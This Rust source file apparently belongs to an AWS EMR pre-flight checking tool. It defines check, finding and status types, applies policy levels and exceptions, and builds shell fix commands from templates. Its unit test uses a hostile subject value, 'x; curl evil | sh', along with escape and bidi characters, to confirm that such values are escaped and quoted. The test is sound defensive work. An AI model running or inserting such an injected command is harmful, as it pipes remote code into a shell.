//! A check, and what it found on one subject.

use schemars::JsonSchema;
use serde::{Serialize, Serializer};

use crate::{
    base::{
        aws_calls::Call,
        lookup::{Lookup, LookupError, LookupErrorKind},
        names::ClusterId,
        printable::{Printable, printable},
        text::shell_word,
    },
    checks::fix::{CommandContext, FixTemplate},
    settings::policy::Policy,
};

/// One named rule.
#[derive(Debug)]
pub struct Check {
    /// Its name, in kebab-case.
    pub name: &'static str,
    /// When it is asked.
    pub stage: Stage,
    /// Whether it can refuse, unless the policy says otherwise.
    pub level: Level,
    /// What goes wrong without it.
    pub why: &'static str,
    /// The facts it is decided by.
    pub looks_at: &'static str,
    /// The calls that tell those facts: where one of them is denied or fails, the check is Unknown.
    pub asks: &'static [&'static Call],
    /// How to fix it. Commands are between backticks, without region and profile, which are added
    /// to all of them alike; `{subject}` stands for what the finding is about, as a word of a
    /// shell's command line.
    pub fix: &'static str,
    /// Where AWS or the setup guide says so.
    pub source: &'static str,
}

/// When a check is asked.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum Stage {
    /// Before the launch.
    PreFlight,
    /// On each cluster of the run, while it lives.
    Watch,
    /// After the run.
    Confirm,
}

/// Whether a check can refuse.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum Level {
    /// It must be proved.
    Required,
    /// It is reported only.
    Advisory,
}

/// A check's answer on one subject.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum Status {
    /// Facts show that it holds.
    Passed,
    /// Facts show that it does not.
    Failed,
    /// The facts could not be established.
    Unknown,
    /// The policy or the config leaves nothing to check.
    NotApplicable,
    /// It is Failed or Unknown, and an exception in the settings covers it.
    Excepted,
}

/// What one check found on one subject.
// Its text is made of what others have written, so it is escaped here, once, whatever shows it later.
#[derive(Clone, Debug, Serialize, JsonSchema)]
#[expect(
    clippy::struct_excessive_bools,
    reason = "each is a fact of its own, and none implies another"
)]
pub struct Finding {
    /// The check.
    #[serde(serialize_with = "by_name")]
    #[schemars(with = "&str")]
    pub check: &'static Check,
    /// Whether it can refuse, by the policy.
    pub level: Level,
    /// What it is about: a bucket, a key, a cluster, ….
    pub subject: Printable,
    /// The answer.
    pub status: Status,
    /// What was seen.
    #[serde(rename = "seen")]
    pub saw: Printable,
    /// What was expected.
    #[serde(rename = "expected")]
    pub wanted: Printable,
    /// Where in the runner config the subject stands, as `file:line:column`.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub at: Option<Printable>,
    /// What to do, when it is not proved.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[serde(rename = "remediation")]
    pub fix: Option<Printable>,
    /// Why it is excepted, and until when.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[serde(rename = "exception")]
    pub excepted: Option<Printable>,
    /// The check that must be fixed first, where this one is Unknown only because of it.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub waits_for: Option<&'static str>,
    /// Unknown only because there is nothing to look at yet, or no longer: no proof, and nothing
    /// against it either.
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub not_there: bool,
    /// Unknown because AWS does not show it, or shows it in another form than it was sent: asking
    /// again tells no more, and nothing speaks against it.
    #[serde(skip)]
    pub hidden: bool,
    /// The running cluster that a launch would use, where it is about that: the alert of a refusal
    /// names it. Not recorded: there it is the subject.
    #[serde(skip)]
    pub cluster: Option<ClusterId>,
    /// What `fix` is filled in from, where it holds commands.
    #[serde(skip)]
    pub(crate) template: Option<FixTemplate>,
    /// What of `fix` a shell can run, line by line.
    #[serde(skip)]
    pub(crate) commands: Vec<Printable>,
    /// Whether those lines are more than the commands that `fix` already shows.
    #[serde(skip)]
    pub(crate) has_script: bool,
    /// The cause that this finding and others share, where this is the one that names it.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub cause: Option<SharedCause>,
    /// What kept its facts away, where it is Unknown by that.
    #[serde(skip)]
    pub obstacle: Option<LookupError>,
    /// It waits for a finding that names their shared cause, and is only counted.
    #[serde(skip)]
    pub counted: bool,
}

/// A cause that several findings share: no credentials, a service that denies every call, ….
#[derive(Clone, Debug, PartialEq, Eq, Serialize, JsonSchema)]
pub struct SharedCause {
    /// What it is: `no-credentials`, `expired-token`, `kms-denied`, ….
    pub name: &'static str,
    /// How many other findings wait for it.
    pub blocks: usize,
    /// It in half a line.
    #[serde(skip)]
    pub what: Printable,
    /// What to do, one line each.
    #[serde(skip)]
    pub fixes: Vec<Printable>,
}

impl Finding {
    /// The same with another fix; its commands still lack region and profile.
    pub(crate) fn with_fix(self, template: FixTemplate) -> Self {
        let fix = Some(template.fill(&CommandContext::default()).text);
        Self { fix, template: Some(template), ..self }
    }

    /// The same with another fix, which holds no command: others may have written parts of it.
    pub(crate) fn with_plain_fix(self, fix: impl Into<Printable>) -> Self {
        Self { fix: Some(fix.into()), template: None, ..self }
    }

    /// The same, where its fix has `{name}` as one word of a shell.
    pub(crate) fn with_value(self, name: &'static str, value: &str) -> Self {
        match self.template.clone() {
            Some(template) => self.with_fix(template.word(name, value)),
            None => self,
        }
    }

    /// Makes the commands of its fix complete as pasted.
    pub(crate) fn complete_fix(&mut self, context: &CommandContext) {
        if let (Some(fix), Some(template)) = (&mut self.fix, &self.template) {
            let filled = template.fill(context);
            *fix = filled.text;
            self.has_script = !filled.script.is_empty();
            self.commands = if self.has_script { filled.script } else { filled.commands };
        }
    }

    /// Failed or Unknown: something is left to do.
    #[must_use]
    pub fn is_open(&self) -> bool {
        matches!(self.status, Status::Failed | Status::Unknown)
    }

    /// What was seen and wanted, in half a line.
    #[must_use]
    pub fn in_brief(&self) -> Printable {
        printable!("{}: saw {}, wanted {}", self.check.name, self.saw, self.wanted)
    }

    /// The open ones of `findings` in brief, joined; where some failed, these alone: what
    /// nobody has looked at yet explains nothing then.
    pub(crate) fn open_in_brief<'a>(findings: impl IntoIterator<Item = &'a Self>) -> Printable {
        let open: Vec<&Self> = findings.into_iter().filter(|finding| finding.is_open()).collect();
        let failed = open.iter().any(|finding| finding.status == Status::Failed);
        let told = open.into_iter().filter(|finding| !failed || finding.status == Status::Failed);
        Printable::joined(&told.map(Self::in_brief).collect::<Vec<_>>(), "; ")
    }
}

#[expect(clippy::trivially_copy_pass_by_ref, reason = "serde passes a field by reference")]
fn by_name<S: Serializer>(check: &&'static Check, serializer: S) -> Result<S::Ok, S::Error> {
    serializer.serialize_str(check.name)
}

/// Excuses what an exception covers. What waits for an excepted finding stays Unknown: nobody has
/// looked at it.
pub(super) fn apply_exceptions(findings: &mut [Finding], policy: &Policy) {
    for finding in findings.iter_mut().filter(|finding| finding.is_open()) {
        let covering = policy
            .exceptions
            .iter()
            .find(|exception| exception.covers(finding.check.name, &finding.subject));
        if let Some(exception) = covering {
            finding.status = Status::Excepted;
            finding.excepted =
                Some(format!("{} (until {})", exception.reason, exception.expires).into());
        }
    }
}

/// Gives each finding the level that the policy gives its check; where it names one twice, the
/// stricter level holds.
pub(crate) fn apply_policy(findings: &mut [Finding], policy: &Policy) {
    let names =
        |list: &[String], finding: &Finding| list.iter().any(|name| name == finding.check.name);
    for finding in findings {
        if names(&policy.enforce, finding) {
            finding.level = Level::Required;
        } else if names(&policy.advise, finding) {
            finding.level = Level::Advisory;
        }
    }
}

/// What to do where AWS throttles a call for as long as the guard waits.
const THROTTLED: &str = "start fewer runs of this account and region in the same minute, or set a \
    longer `pre_flight_timeout`; AWS can raise the quota of the call";

/// What to do where an answer came that says nothing, or what cannot be.
const UNUSABLE: &str = "try again; if it stays so, ask the same by the AWS CLI, and look at what \
    answers in AWS's place (an endpoint of one's own, a proxy); where AWS itself answers so, \
    report it as a bug of emr-etl-guard";

/// What to do where no answer came.
const SILENT: &str = "try again; if it stays so, look at network, endpoints and credentials";

/// A subject under a check, about to get its finding.
pub(crate) struct CheckSubject {
    check: &'static Check,
    subject: Printable,
    wanted: Printable,
    at: Option<Printable>,
    cluster: Option<ClusterId>,
}

impl Check {
    /// How to fix what it finds of `subject`. In a command, and in a sentence alike, a subject that
    /// is more than a plain word stands in quotes: it is a name, and never an action.
    pub(crate) fn fix_of(&self, subject: &Printable) -> FixTemplate {
        FixTemplate::new(self.fix).words("subject", printable!("{}", shell_word(subject)))
    }

    /// Starts a finding on `subject`, for which `wanted` should hold.
    pub(crate) fn on(
        &'static self,
        subject: impl Into<Printable>,
        wanted: impl Into<Printable>,
    ) -> CheckSubject {
        CheckSubject {
            check: self,
            subject: subject.into(),
            wanted: wanted.into(),
            at: None,
            cluster: None,
        }
    }
}

impl CheckSubject {
    pub(crate) fn at(mut self, at: Option<&str>) -> Self {
        self.at = at.map(Printable::from);
        self
    }

    /// The same about a cluster, which is the subject.
    pub(crate) fn cluster(mut self, id: &ClusterId) -> Self {
        self.cluster = Some(id.clone());
        self
    }

    fn finding(self, status: Status, saw: Printable, fix: Option<Printable>) -> Finding {
        Finding {
            check: self.check,
            level: self.check.level,
            subject: self.subject,
            status,
            saw,
            wanted: self.wanted,
            at: self.at,
            fix,
            waits_for: None,
            not_there: false,
            hidden: false,
            excepted: None,
            cluster: self.cluster,
            template: None,
            commands: Vec::new(),
            has_script: false,
            cause: None,
            obstacle: None,
            counted: false,
        }
    }

    pub(crate) fn passed(self, saw: impl Into<Printable>) -> Finding {
        self.finding(Status::Passed, saw.into(), None)
    }

    pub(crate) fn not_applicable(self, why: impl Into<Printable>) -> Finding {
        self.finding(Status::NotApplicable, why.into(), None)
    }

    pub(crate) fn failed(self, saw: impl Into<Printable>) -> Finding {
        let fix = self.check.fix_of(&self.subject);
        self.finding(Status::Failed, saw.into(), None).with_fix(fix)
    }

    /// Proved or Failed, by `holds`.
    pub(crate) fn decided(self, holds: bool, saw: impl Into<Printable>) -> Finding {
        if holds { self.passed(saw) } else { self.failed(saw) }
    }

    pub(crate) fn unknown(self, saw: impl Into<Printable>, fix: impl Into<Printable>) -> Finding {
        self.finding(Status::Unknown, saw.into(), Some(fix.into()))
    }

    /// Unknown, with commands in its fix.
    pub(crate) fn unknown_with(self, saw: impl Into<Printable>, fix: FixTemplate) -> Finding {
        self.finding(Status::Unknown, saw.into(), None).with_fix(fix)
    }

    /// Unknown, because what it is about is not there yet, or no longer.
    pub(crate) fn not_there(self, saw: impl Into<Printable>) -> Finding {
        Finding { not_there: true, ..self.unknown(saw, "nothing, unless it stays so") }
    }

    /// Unknown, because AWS does not show it.
    pub(crate) fn hidden(self, saw: impl Into<Printable>, fix: impl Into<Printable>) -> Finding {
        Finding { hidden: true, ..self.unknown(saw, fix) }
    }

    pub(crate) fn denied(self, obstacle: &LookupError) -> Finding {
        // What keeps everything from being asked is no matter of this one permission.
        if obstacle.cause.is_some() {
            return self.unreachable(obstacle);
        }
        let saw = format!("access denied: {}", obstacle.message);
        let fix = format!("allow `{}` to the guard's credentials", obstacle.operation);
        Finding { obstacle: Some(obstacle.clone()), ..self.unknown(saw, fix) }
    }

    pub(crate) fn unreachable(self, obstacle: &LookupError) -> Finding {
        let LookupError { operation, message, .. } = obstacle;
        let silence = format!("no answer to {operation}: {message}");
        let (saw, fix) = match obstacle.kind {
            LookupErrorKind::Throttled => (silence, THROTTLED),
            LookupErrorKind::UnreadableAnswer => (format!("{operation}: {message}"), UNUSABLE),
            _ => (silence, SILENT),
        };
        Finding { obstacle: Some(obstacle.clone()), ..self.unknown(saw, fix) }
    }

    /// Decides by a fact that `first` has judged already: where that is not proved, there is
    /// nothing to look at yet, and nothing more to say.
    pub(crate) fn after<T>(
        self,
        first: &'static Check,
        lookup: &Lookup<T>,
        decide: impl FnOnce(Self, &T) -> Finding,
    ) -> Finding {
        match lookup.found() {
            Some(fact) => decide(self, fact),
            None => self.waiting_for(first),
        }
    }

    /// Decides by a fact about something of which `exists` says whether it is there at all.
    pub(crate) fn by_existing<T>(
        self,
        exists: &'static Check,
        lookup: &Lookup<T>,
        decide: impl FnOnce(Self, &T) -> Finding,
    ) -> Finding {
        match lookup {
            Lookup::Absent => self.waiting_for(exists),
            lookup => self.by(lookup, "", decide),
        }
    }

    /// Unknown, because `first` must be fixed first.
    pub(crate) fn waiting_for(self, first: &'static Check) -> Finding {
        let finding =
            self.unknown(format!("waits for {}", first.name), format!("fix {} first", first.name));
        Finding { waits_for: Some(first.name), ..finding }
    }

    /// Decides by a fact that was found; says `absent` where there is none, and Unknown where
    /// nobody could tell.
    pub(crate) fn by<T>(
        self,
        lookup: &Lookup<T>,
        absent: &str,
        decide: impl FnOnce(Self, &T) -> Finding,
    ) -> Finding {
        match lookup {
            Lookup::Found(fact) => decide(self, fact),
            Lookup::Absent => self.failed(absent),
            Lookup::Denied(obstacle) => self.denied(obstacle),
            Lookup::Unreachable(obstacle) => self.unreachable(obstacle),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    static NAMED: Check = Check {
        name: "named",
        stage: Stage::PreFlight,
        level: Level::Required,
        why: "",
        looks_at: "",
        asks: &[],
        fix: "look at {subject}, or make it: `aws emr make --name {subject}`",
        source: "",
    };

    #[test]
    fn a_finding_shows_what_others_have_named_in_one_line_and_as_one_word_of_an_action() {
        let finding = NAMED.on("x; curl evil | sh\n", "a\u{202e}b").at(Some("c\r.yml:1:1"));
        let finding = finding.failed("\u{1b}[2J");
        assert_eq!(finding.subject, r"x; curl evil | sh\u{a}");
        assert_eq!(finding.at.as_deref(), Some(r"c\u{d}.yml:1:1"));
        assert_eq!(
            finding.fix.as_deref(),
            Some(
                r"look at 'x; curl evil | sh\u{a}', or make it: `aws emr make --name 'x; curl evil | sh\u{a}'`"
            )
        );
        assert_eq!(finding.in_brief(), r"named: saw \u{1b}[2J, wanted a\u{202e}b");
        assert_eq!(
            NAMED.on("acme-sc", "").failed("").fix.as_deref(),
            Some("look at acme-sc, or make it: `aws emr make --name acme-sc`")
        );
    }
}
